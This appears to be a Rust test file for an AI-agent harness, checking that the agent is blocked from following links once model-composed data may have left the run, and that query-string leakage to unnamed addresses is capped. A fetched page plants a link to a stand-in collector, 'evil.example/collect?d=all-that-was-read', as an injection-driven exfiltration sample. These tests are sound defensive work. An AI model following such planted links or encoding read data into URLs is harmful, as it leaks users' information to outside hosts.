//! Whose answers give links: none, once something that a model composed has left the run.

use super::origins::{get, planned, reading, web};
use super::*;

const NAMED: &str = "https://wiki.example/board";
const UNNAMED: &str = "https://evil.example/collect?d=all-that-was-read";

/// The tools of [`web`], `query_table` and `write_file`, in a run whose goal names the board.
fn setting() -> Setup {
    let query_table = ToolSpec { untrusted: true, ..(*tool("query_table", true)).clone() };
    let write_file = ToolSpec { effect: Effect::Write, ..(*tool("write_file", true)).clone() };
    let mut setup = web(Setup { goal: format!("Sum up https://wiki.example/a and {NAMED}"), ..setup() });
    setup.tools.extend([Arc::new(query_table), Arc::new(write_file)]);
    setup
}

/// A run of one judged step with all tools, which has read `https://wiki.example/a`.
fn having_read(setup: Setup) -> Machine {
    let mut machine = begin(setup);
    let mut steps = reading();
    steps[0]["tools"] = json!(["fetch", "query_table", "write_file"]);
    answer(&mut machine, "plan", planned(&steps));
    answer(&mut machine, "act", wants(&[get("https://wiki.example/a")]));
    tool_calls(&mut machine);
    returned(&mut machine, "s#1", Ok(json!({"text": "see [the copy](https://copy.example/board)"})));
    machine
}

/// Makes `call`, and reads `board` after it, which shows what it was told; `follows` says whether the link there is followed.
fn follows(mut machine: Machine, call: (&'static str, Value), board: &str) -> bool {
    answer(&mut machine, "act", wants(&[call]));
    assert_eq!(tool_calls(&mut machine).len(), 1);
    returned(&mut machine, "s#2", Ok(json!({"text": "noted"})));
    answer(&mut machine, "act", wants(&[get(board)]));
    assert_eq!(tool_calls(&mut machine).len(), 1, "the board is read");
    returned(&mut machine, "s#3", Ok(json!({"text": format!("[said]({UNNAMED})")})));
    answer(&mut machine, "act", wants(&[get(UNNAMED)]));
    match machine.next_action() {
        Action::CallTools(_) => true,
        Action::CallModel(_) => false,
        other => panic!("{other:?}"),
    }
}

#[test]
fn what_was_told_comes_back_as_a_link_from_no_server() {
    let tell = || get("https://wiki.example/tell?q=x");
    let query = |name: &str| ("query_table", json!({"query": "SELECT 1", name: "https://wiki.example/tell?q=x"}));
    assert!(!follows(having_read(setting()), tell(), NAMED), "the same server");
    assert!(!follows(having_read(setting()), tell(), "https://copy.example/board"), "another name of it");
    for name in ["url", "table"] {
        assert!(!follows(having_read(setting()), query(name), NAMED), "told by query_table, {name}");
    }
    assert!(follows(having_read(setting()), get(NAMED), NAMED), "nothing was told");
}

#[test]
fn a_request_tells_from_its_start_on() {
    let mut machine = having_read(setting());
    answer(&mut machine, "act", wants(&[get("https://wiki.example/tell?q=x"), get(NAMED)]));
    assert_eq!(tool_calls(&mut machine).len(), 2);
    returned(&mut machine, "s#3", Ok(json!({"text": format!("[said]({UNNAMED})")})));
    returned(&mut machine, "s#2", Ok(json!({"text": "noted"})));
    answer(&mut machine, "act", wants(&[get(UNNAMED)]));
    assert!(matches!(machine.next_action(), Action::CallModel(_)), "nothing is requested");
}

#[test]
fn a_file_in_a_folder_of_people_may_be_shown_to_the_world() {
    let write = || ("write_file", json!({"path": "out/o.html", "content": "x"}));
    let open = Setup { writes_to_people: true, ..setting() };
    assert!(!follows(having_read(open), write(), NAMED));
    assert!(follows(having_read(setting()), write(), NAMED), "the folder of the task is shown to nobody");
}

#[test]
fn what_a_run_adds_to_addresses_that_nobody_named_has_a_sum() {
    let mut machine = having_read(Setup { goal: "Sum it up".to_owned(), ..setting() });
    let address = |number: usize| format!("https://wiki.example/search?q={number}{}", "x".repeat(200));
    let mut made = 0;
    for number in 2..20 {
        answer(&mut machine, "act", wants(&[get(&address(number))]));
        match machine.next_action() {
            Action::CallTools(calls) => {
                made += 1;
                returned(&mut machine, &calls[0].id, Ok(json!({"text": "nothing"})));
            }
            Action::CallModel(_) => break,
            other => panic!("{other:?}"),
        }
    }
    assert_eq!(made, 4, "some 1,024 bytes, each request of which is short enough");
}
